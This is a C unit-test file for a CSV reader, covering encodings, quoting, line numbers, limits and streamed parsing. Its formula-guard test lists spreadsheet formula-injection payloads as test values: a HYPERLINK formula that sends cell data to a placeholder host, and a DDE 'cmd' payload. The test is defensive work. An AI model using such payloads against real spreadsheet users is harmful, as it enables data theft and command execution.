/*
 * test-util-csv.c - util/table: the CSV reader (encodings, delimiters,
 * RFC 4180 quoting, line numbers, limits and errors), and the agreement of
 * its two uses of one state machine: table_parse_csv and the streamed
 * table_reader.
 */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <unicode/ucnv.h>
#include <unicode/ustring.h>

#include "util/err.h"
#include "util/table.h"
#include "util/text.h"

/* Parses data (a C string) and asserts success. */
static void
parse_ok(const char *data, size_t max_rows, struct table *t)
{
	struct cb_error err = CB_ERROR_INIT;
	int rc = table_parse_csv(data, strlen(data), max_rows, t, &err);

	if (rc != 0)
		fail_msg("parse failed: %d %s %s", rc, err.mcode ?
		    err.mcode : "", err.arg ? err.arg : "");
	cb_error_release(&err);
}

/* Asserts row r of t has exactly the n cells given. */
static void
assert_row(const struct table *t, size_t r, long line, size_t n, ...)
{
	va_list ap;
	size_t i;

	assert_true(r < t->nrows);
	assert_int_equal(t->rows[r].line, line);
	assert_int_equal(t->rows[r].ncells, n);
	va_start(ap, n);
	for (i = 0; i < n; i++) {
		const char *want = va_arg(ap, const char *);

		assert_non_null(t->rows[r].cells[i]);
		if (strcmp(t->rows[r].cells[i], want) != 0)
			fail_msg("row %zu cell %zu: \"%s\", want \"%s\"", r, i,
			    t->rows[r].cells[i], want);
	}
	va_end(ap);
}

/* Asserts parsing fails with code and mcode (and arg unless NULL). */
static void
parse_err(const char *data, size_t len, size_t max_rows, int code,
    const char *mcode, const char *arg)
{
	struct cb_error err = CB_ERROR_INIT;
	struct table t;

	assert_int_equal(table_parse_csv(data, len, max_rows, &t, &err),
	    -code);
	assert_int_equal(err.code, code);
	assert_string_equal(err.mcode, mcode);
	if (arg != NULL) {
		assert_non_null(err.arg);
		assert_string_equal(err.arg, arg);
	}
	assert_int_equal(t.nrows, 0);
	assert_null(t.rows);
	table_release(&t);
	cb_error_release(&err);
}

/*
 * Asserts that the streamed reader gives what table_parse_csv gives for
 * data[0..len): the delimiter, every row (line and cells) and the error
 * (code, message code, argument) if any.  The stream gives the rows before
 * a problem before failing; table_parse_csv gives none.  Returns the rows
 * the stream gave.
 */
static size_t
same_rows(const char *data, size_t len)
{
	struct cb_error e1 = CB_ERROR_INIT, e2 = CB_ERROR_INIT;
	struct table_reader *tr;
	const struct table_row *row;
	struct table t;
	size_t n = 0, i;
	int rc1, rc2;

	rc1 = table_parse_csv(data, len, 0, &t, &e1);
	assert_int_equal(table_reader_open(data, len, &tr, &e2), 0);
	if (rc1 == 0)
		assert_int_equal(table_reader_delimiter(tr), t.delimiter);
	while ((rc2 = table_reader_next(tr, &row, &e2)) == 1) {
		if (rc1 == 0) {
			assert_true(n < t.nrows);
			assert_int_equal(row->line, t.rows[n].line);
			assert_int_equal(row->ncells, t.rows[n].ncells);
			for (i = 0; i < row->ncells; i++)
				assert_string_equal(row->cells[i],
				    t.rows[n].cells[i]);
		}
		n++;
	}
	if (rc1 == 0 && t.nrows > 0) {
		assert_int_equal(rc2, 0);
		assert_int_equal(n, t.nrows);
	} else {
		/* An empty file is csv_empty for the table only. */
		if (rc1 != 0 && strcmp(e1.mcode, "csv_empty") == 0) {
			assert_int_equal(rc2, 0);
			assert_int_equal(n, 0);
		} else {
			assert_int_equal(rc2, rc1);
			assert_int_equal(e2.code, e1.code);
			assert_string_equal(e2.mcode, e1.mcode);
			if (e1.arg != NULL)
				assert_string_equal(e2.arg, e1.arg);
		}
	}
	table_reader_close(tr);
	table_release(&t);
	cb_error_release(&e1);
	cb_error_release(&e2);
	return n;
}

static int
setup(void **state)
{
	(void)state;
	return text_init() == 0 ? 0 : -1;
}

static int
teardown(void **state)
{
	(void)state;
	text_shutdown();
	return 0;
}

static void
test_basic(void **state)
{
	struct table t;

	(void)state;
	parse_ok("Họ và tên,Ngày sinh\nNguyễn Văn An,01/02/1980\n"
	    "Lê Thị Bình,1985-03-04\n", 0, &t);
	assert_string_equal(t.format, "csv");
	assert_string_equal(t.encoding, "utf-8");
	assert_int_equal(t.delimiter, ',');
	assert_int_equal(t.nrows, 3);
	assert_row(&t, 0, 1, 2, "Họ và tên", "Ngày sinh");
	assert_row(&t, 1, 2, 2, "Nguyễn Văn An", "01/02/1980");
	assert_row(&t, 2, 3, 2, "Lê Thị Bình", "1985-03-04");
	table_release(&t);
	assert_int_equal(t.nrows, 0);
	table_release(&t);	/* twice is fine */
}

/* Excel's "CSV UTF-8": a BOM, ';' in a comma-decimal locale, CRLF. */
static void
test_bom_semicolon_crlf(void **state)
{
	struct table t;

	(void)state;
	parse_ok("\xEF\xBB\xBFHọ tên;Số tiền;Ghi chú\r\n"
	    "Trần Văn Cường;1,5;a,b\r\n"
	    "Phạm Thị Dung;2;\r\n", 0, &t);
	assert_int_equal(t.delimiter, ';');
	assert_int_equal(t.nrows, 3);
	/* The BOM is not part of the first header. */
	assert_row(&t, 0, 1, 3, "Họ tên", "Số tiền", "Ghi chú");
	assert_row(&t, 1, 2, 3, "Trần Văn Cường", "1,5", "a,b");
	assert_row(&t, 2, 3, 3, "Phạm Thị Dung", "2", "");
	table_release(&t);

	/* A quoted ';' in line one does not count; ',' wins. */
	parse_ok("\"a;b;c\",d\n1,2\n", 0, &t);
	assert_int_equal(t.delimiter, ',');
	assert_row(&t, 0, 1, 2, "a;b;c", "d");
	table_release(&t);
}

static void
test_quotes(void **state)
{
	struct table t;

	(void)state;
	parse_ok("name,address,note\n"
	    "\"Nguyễn, Văn A\",\"Số 1\nphố Huế\r\nHà Nội\",\"He said \"\"hi\"\"\"\n"
	    "\"\",\"\"\"\",plain \"inner\" quote\n"
	    "\"closed\" tail,x,\"\"\"\"\"\"\n"
	    "last,row,here\n", 0, &t);
	assert_int_equal(t.nrows, 5);
	assert_row(&t, 0, 1, 3, "name", "address", "note");
	/* The embedded line breaks collapse to spaces (cells are cleaned). */
	assert_row(&t, 1, 2, 3, "Nguyễn, Văn A", "Số 1 phố Huế Hà Nội",
	    "He said \"hi\"");
	/* The quoted address spans lines 2..4: the next row is on 5. */
	assert_row(&t, 2, 5, 3, "", "\"", "plain \"inner\" quote");
	assert_row(&t, 3, 6, 3, "closed tail", "x", "\"\"");
	assert_row(&t, 4, 7, 3, "last", "row", "here");
	table_release(&t);
}

/* Cells are NFC, trimmed, inner white space collapsed; blank rows go. */
static void
test_cleaning_and_blank_rows(void **state)
{
	struct table t;

	(void)state;
	/* "Nguyễn" written in NFD. */
	parse_ok("a,b\n\n  Nguye\xcc\x82\xcc\x83n   Văn \t An  , x\xc2\xa0 y \n"
	    ",,\n\" \", \n\r\nlast,\x01" "ctl\n", 0, &t);
	assert_int_equal(t.nrows, 3);
	assert_row(&t, 0, 1, 2, "a", "b");
	assert_row(&t, 1, 3, 2, "Nguyễn Văn An", "x y");
	/* A control character is kept (the import refuses its field). */
	assert_row(&t, 2, 7, 2, "last", "\x01" "ctl");
	table_release(&t);

	/* No final line break; a trailing empty field is kept. */
	parse_ok("a,b,c\n1,2,", 0, &t);
	assert_row(&t, 1, 2, 3, "1", "2", "");
	table_release(&t);
	/* Old Mac line ends. */
	parse_ok("a,b\r1,2\r3,4", 0, &t);
	assert_int_equal(t.nrows, 3);
	assert_row(&t, 2, 3, 2, "3", "4");
	table_release(&t);
	/* Ragged rows keep their own widths. */
	parse_ok("a,b,c\n1\n1,2,3,4\n", 0, &t);
	assert_row(&t, 1, 2, 1, "1");
	assert_row(&t, 2, 3, 4, "1", "2", "3", "4");
	table_release(&t);
}

/*
 * Windows-1258: tone marks are combining characters after a precomposed
 * base letter (ê, ơ, ă...).  Hand-written bytes, and bytes made by ICU's
 * own converter.
 */
static void
test_windows_1258(void **state)
{
	/* "Họ tên;Quê" / "Đặng Thị Hường;Hà Nội": Đ D0, ă E3, ê EA, ô F4,
	 * ơ F5, ư FD, à E0; grave CC, acute EC, dot below F2. */
	static const char hand[] = "Ho\xf2 t\xea" "n;Qu\xea\n"
	    "\xd0\xe3\xf2ng Thi\xf2 H\xfd\xf5\xccng;H\xe0 N\xf4\xf2i\n";
	/* "Nguyễn;Phước" as Windows-1258 writes it: ê + U+0303, ơ + U+0301. */
	static const UChar text[] = {
		'N', 'g', 'u', 'y', 0xEA, 0x0303, 'n', ';', 'P', 'h', 0x01B0,
		0x01A1, 0x0301, 'c', '\n', 'x', ';', 'y', '\n',
	};
	UErrorCode st = U_ZERO_ERROR;
	UConverter *cnv;
	char bytes[256];
	int32_t m;
	struct table t;

	(void)state;
	parse_ok(hand, 0, &t);
	assert_string_equal(t.encoding, "windows-1258");
	assert_int_equal(t.delimiter, ';');
	assert_int_equal(t.nrows, 2);
	assert_row(&t, 0, 1, 2, "Họ tên", "Quê");
	assert_row(&t, 1, 2, 2, "Đặng Thị Hường", "Hà Nội");
	table_release(&t);

	cnv = ucnv_open("windows-1258", &st);
	assert_true(U_SUCCESS(st));
	m = ucnv_fromUChars(cnv, bytes, sizeof(bytes), text,
	    (int32_t)(sizeof(text) / sizeof(text[0])), &st);
	ucnv_close(cnv);
	assert_true(U_SUCCESS(st));
	assert_int_equal(m, 19);	/* one byte per UTF-16 unit */
	assert_false(text_utf8_wellformed(bytes, (size_t)m));
	parse_ok(bytes, 0, &t);
	assert_string_equal(t.encoding, "windows-1258");
	/* NFC: "ễ" and "ớ" precomposed, as the UTF-8 literal is. */
	assert_row(&t, 0, 1, 2, "Nguyễn", "Phước");
	assert_string_equal(t.rows[0].cells[0], "Nguy\xe1\xbb\x85n");
	table_release(&t);
}

static void
test_errors(void **state)
{
	size_t i;
	struct table t;

	(void)state;
	static const char open1[] = "a,b\n1,\"open\n2,3\n4,5\n";
	static const char open2[] = "a,b\n1,2\n3,\"x\"\"\n";

	parse_err(open1, strlen(open1), 0, CB_EINVAL,
	    "csv_unterminated_quote", "2");
	parse_err(open2, strlen(open2), 0, CB_EINVAL,
	    "csv_unterminated_quote", "3");
	parse_err("", 0, 0, CB_EINVAL, "csv_empty", NULL);
	parse_err("\xEF\xBB\xBF", 3, 0, CB_EINVAL, "csv_empty", NULL);
	parse_err("\n\r\n,,,\n , \n", 11, 0, CB_EINVAL, "csv_empty", NULL);
	parse_err(NULL, 5, 0, CB_EINVAL, "csv_empty", NULL);
	parse_err("a,b\n1,\0\n", 8, 0, CB_EINVAL, "bad_encoding", NULL);
	parse_err("\xFF\xFE" "a\0,\0b\0", 8, 0, CB_EINVAL, "bad_encoding",
	    NULL);
	/* 0x81 is not mapped in Windows-1258 (and not UTF-8). */
	parse_err("a,b\n\x81,2\n", 8, 0, CB_EINVAL, "bad_encoding", NULL);

	/* max_rows counts data rows, not the header. */
	parse_ok("h\n1\n2\n3\n", 3, &t);
	assert_int_equal(t.nrows, 4);
	table_release(&t);
	parse_err("h\n1\n2\n3\n4\n", 10, 3, CB_ETOOBIG, "too_many_rows",
	    "3");
	/* Blank rows do not count. */
	parse_ok("h\n\n1\n,\n2\n\n3\n", 3, &t);
	assert_int_equal(t.nrows, 4);
	assert_row(&t, 3, 7, 1, "3");
	table_release(&t);

	/* More columns than Excel has. */
	{
		size_t n = 16385 * 2;
		char *wide = malloc(n + 1);

		assert_non_null(wide);
		for (i = 0; i < n; i += 2) {
			wide[i] = 'x';
			wide[i + 1] = ',';
		}
		wide[n - 1] = '\n';
		wide[n] = '\0';
		parse_err(wide, n, 0, CB_ETOOBIG, "too_big", NULL);
		/* One column fewer is fine. */
		wide[n - 3] = '\n';
		wide[n - 2] = '\0';
		parse_ok(wide, 0, &t);
		assert_int_equal(t.rows[0].ncells, 16384);
		table_release(&t);
		free(wide);
	}
}

/* Quoted cells across lines: one row, counted lines, in both readers. */
static void
test_same_quotes_across_lines(void **state)
{
	static const char data[] = "a,b\n\"x\ny\",\"1\r\n2\"\r\nz,\"w\r"
	    "v\"\n\"\"\"q\"\"\n\",end\n";
	struct table t;

	(void)state;
	parse_ok(data, 0, &t);
	assert_int_equal(t.nrows, 4);
	assert_row(&t, 0, 1, 2, "a", "b");
	assert_row(&t, 1, 2, 2, "x y", "1 2");
	/* Line 2, 3 inside the quotes, 4 where the row ends; then a lone
	 * CR inside quotes. */
	assert_row(&t, 2, 5, 2, "z", "w v");
	assert_row(&t, 3, 7, 2, "\"q\"", "end");
	table_release(&t);
	assert_int_equal(same_rows(data, strlen(data)), 4);
}

/* CRLF, a lone CR, LF, and blank lines of each between rows. */
static void
test_same_line_ends(void **state)
{
	static const char data[] = "a;b\r\n1;2\r\n\r\n3;4\r5;6\n\r\n\n7;8\r";
	struct table t;

	(void)state;
	parse_ok(data, 0, &t);
	assert_int_equal(t.delimiter, ';');
	assert_int_equal(t.nrows, 5);
	assert_row(&t, 0, 1, 2, "a", "b");
	assert_row(&t, 1, 2, 2, "1", "2");
	assert_row(&t, 2, 4, 2, "3", "4");
	assert_row(&t, 3, 5, 2, "5", "6");
	assert_row(&t, 4, 8, 2, "7", "8");
	table_release(&t);
	assert_int_equal(same_rows(data, strlen(data)), 5);
}

/* A quote inside an unquoted cell is a character; so is one after a
 * closing quote. */
static void
test_same_inner_quotes(void **state)
{
	static const char data[] = "a,b,c\nx\"y,\"z\"w\"v, \"s\"\n"
	    "\"\"\"\",1\"\"2,\"\"\n";
	struct table t;

	(void)state;
	parse_ok(data, 0, &t);
	assert_int_equal(t.nrows, 3);
	assert_row(&t, 1, 2, 3, "x\"y", "zw\"v", "\"s\"");
	assert_row(&t, 2, 3, 3, "\"", "1\"\"2", "");
	table_release(&t);
	assert_int_equal(same_rows(data, strlen(data)), 3);
}

/* The last line: empty, blank, without a line break, a trailing empty
 * field, an empty quoted field. */
static void
test_same_last_line(void **state)
{
	static const char *const files[] = {
		"a,b\n1,2\n\n",
		"a,b\n1,2\n  \t ",
		"a,b\n1,2",
		"a,b\n1,",
		"a,b\n1,2\n,",
		"a,b\n1,2\n\"\"",
		"a,b\n1,2\r\n\r\n",
	};
	static const size_t rows[] = { 2, 2, 2, 2, 2, 2, 2 };
	struct table t;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		parse_ok(files[i], 0, &t);
		assert_int_equal(t.nrows, rows[i]);
		table_release(&t);
		assert_int_equal(same_rows(files[i], strlen(files[i])),
		    rows[i]);
	}
	parse_ok("a,b\n1,", 0, &t);
	assert_row(&t, 1, 2, 2, "1", "");
	table_release(&t);
}

/* A BOM is skipped by both, also before a quoted first cell. */
static void
test_same_bom(void **state)
{
	static const char data[] = "\xEF\xBB\xBF\"Họ tên\";Năm\r\n"
	    "\"Trần Văn Cường\";1980\r\n";
	struct table t;

	(void)state;
	parse_ok(data, 0, &t);
	assert_int_equal(t.delimiter, ';');
	assert_row(&t, 0, 1, 2, "Họ tên", "Năm");
	assert_row(&t, 1, 2, 2, "Trần Văn Cường", "1980");
	table_release(&t);
	assert_int_equal(same_rows(data, strlen(data)), 2);
	assert_int_equal(same_rows("\xEF\xBB\xBF", 3), 0);
}

/*
 * A Windows-1258 file is decoded before the rows are cut: its table is the
 * table of the same text in UTF-8, which the stream reads too.  The stream
 * itself takes UTF-8 only.
 */
static void
test_same_legacy(void **state)
{
	/* "Họ tên;"Quê, quán"" / "Đặng Thị Hường;"Hà\nNội"" */
	static const char legacy[] = "Ho\xf2 t\xea" "n;\"Qu\xea, qu\xe1n\"\n"
	    "\xd0\xe3\xf2ng Thi\xf2 H\xfd\xf5\xccng;\"H\xe0\nN\xf4\xf2i\"\n"
	    "x;y\n";
	static const char utf8[] = "Họ tên;\"Quê, quán\"\n"
	    "Đặng Thị Hường;\"Hà\nNội\"\nx;y\n";
	struct cb_error err = CB_ERROR_INIT;
	struct table t, u;
	struct table_reader *tr;
	const struct table_row *row;
	size_t r, i;

	(void)state;
	parse_ok(legacy, 0, &t);
	assert_string_equal(t.encoding, "windows-1258");
	parse_ok(utf8, 0, &u);
	assert_string_equal(u.encoding, "utf-8");
	assert_int_equal(t.delimiter, u.delimiter);
	assert_int_equal(t.nrows, 3);
	assert_int_equal(u.nrows, 3);
	assert_row(&t, 1, 2, 2, "Đặng Thị Hường", "Hà Nội");
	assert_row(&t, 2, 4, 2, "x", "y");
	for (r = 0; r < t.nrows; r++) {
		assert_int_equal(t.rows[r].line, u.rows[r].line);
		assert_int_equal(t.rows[r].ncells, u.rows[r].ncells);
		for (i = 0; i < t.rows[r].ncells; i++)
			assert_string_equal(t.rows[r].cells[i],
			    u.rows[r].cells[i]);
	}
	table_release(&u);
	assert_int_equal(same_rows(utf8, strlen(utf8)), 3);

	/* The stream of the legacy bytes fails at the first such cell. */
	assert_int_equal(table_reader_open(legacy, strlen(legacy), &tr, &err),
	    0);
	assert_int_equal(table_reader_next(tr, &row, &err), -CB_EINVAL);
	assert_string_equal(err.mcode, "bad_encoding");
	table_reader_close(tr);
	cb_error_release(&err);
	table_release(&t);
}

/* Errors: the same code and argument from both, after the same rows. */
static void
test_same_errors(void **state)
{
	static const char open1[] = "a,b\n1,2\n3,\"open\n4,5\n";
	static const char ctl[] = "a,b\n\x01x,\x7f" "y\n";

	(void)state;
	assert_int_equal(same_rows(open1, strlen(open1)), 2);
	assert_int_equal(same_rows("\"", 1), 0);
	assert_int_equal(same_rows("a\n\"x\"\"", 6), 1);
	/* Control characters are kept by both. */
	assert_int_equal(same_rows(ctl, strlen(ctl)), 2);
}

/* table_parse picks CSV for anything that is not a ZIP archive. */
static void
test_dispatch(void **state)
{
	struct cb_error err = CB_ERROR_INIT;
	struct table t;

	(void)state;
	assert_false(table_is_xlsx("a,b\n", 4));
	assert_false(table_is_xlsx("PK", 2));
	assert_true(table_is_xlsx("PK\x03\x04rest", 8));
	assert_int_equal(table_parse("a;b\n1;2\n", 8, 0, &t, &err), 0);
	assert_string_equal(t.format, "csv");
	assert_int_equal(t.nrows, 2);
	assert_row(&t, 1, 2, 2, "1", "2");
	table_release(&t);
	cb_error_release(&err);
}

/* Formula cells: the quote an export adds is removed by the import, and
 * only that one (util/table.h). */
static void
test_formula_guard(void **state)
{
	static const char *const values[] = { "=HYPERLINK(\"http://x\"&A1)",
		"+1+cmd|' /C calc'!A0", "-5", "@SUM(A1)", "\t=1", "\r=1",
		"'=kept", "''+x", "'abc", "''", "'", "abc", "a=b", "", "Nguyễn" };
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(values) / sizeof(values[0]); i++) {
		const char *v = values[i];
		char buf[128];

		if (table_cell_needs_guard(v)) {
			snprintf(buf, sizeof(buf), "'%s", v);
			assert_string_equal(table_cell_unguard(buf), v);
		} else {
			/* Written as it is, read as it is. */
			assert_ptr_equal(table_cell_unguard(v), v);
		}
	}
	assert_true(table_cell_needs_guard("=1"));
	assert_true(table_cell_needs_guard("'=1"));
	assert_false(table_cell_needs_guard("'abc"));
	assert_false(table_cell_needs_guard("1-2"));
	/* A file written by hand: a quote before a formula is taken as
	 * Excel takes it. */
	assert_string_equal(table_cell_unguard("'=1+1"), "=1+1");
	assert_string_equal(table_cell_unguard("'abc"), "'abc");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_basic),
		cmocka_unit_test(test_bom_semicolon_crlf),
		cmocka_unit_test(test_quotes),
		cmocka_unit_test(test_cleaning_and_blank_rows),
		cmocka_unit_test(test_windows_1258),
		cmocka_unit_test(test_errors),
		cmocka_unit_test(test_dispatch),
		cmocka_unit_test(test_same_quotes_across_lines),
		cmocka_unit_test(test_same_line_ends),
		cmocka_unit_test(test_same_inner_quotes),
		cmocka_unit_test(test_same_last_line),
		cmocka_unit_test(test_same_bom),
		cmocka_unit_test(test_same_legacy),
		cmocka_unit_test(test_same_errors),
		cmocka_unit_test(test_formula_guard),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
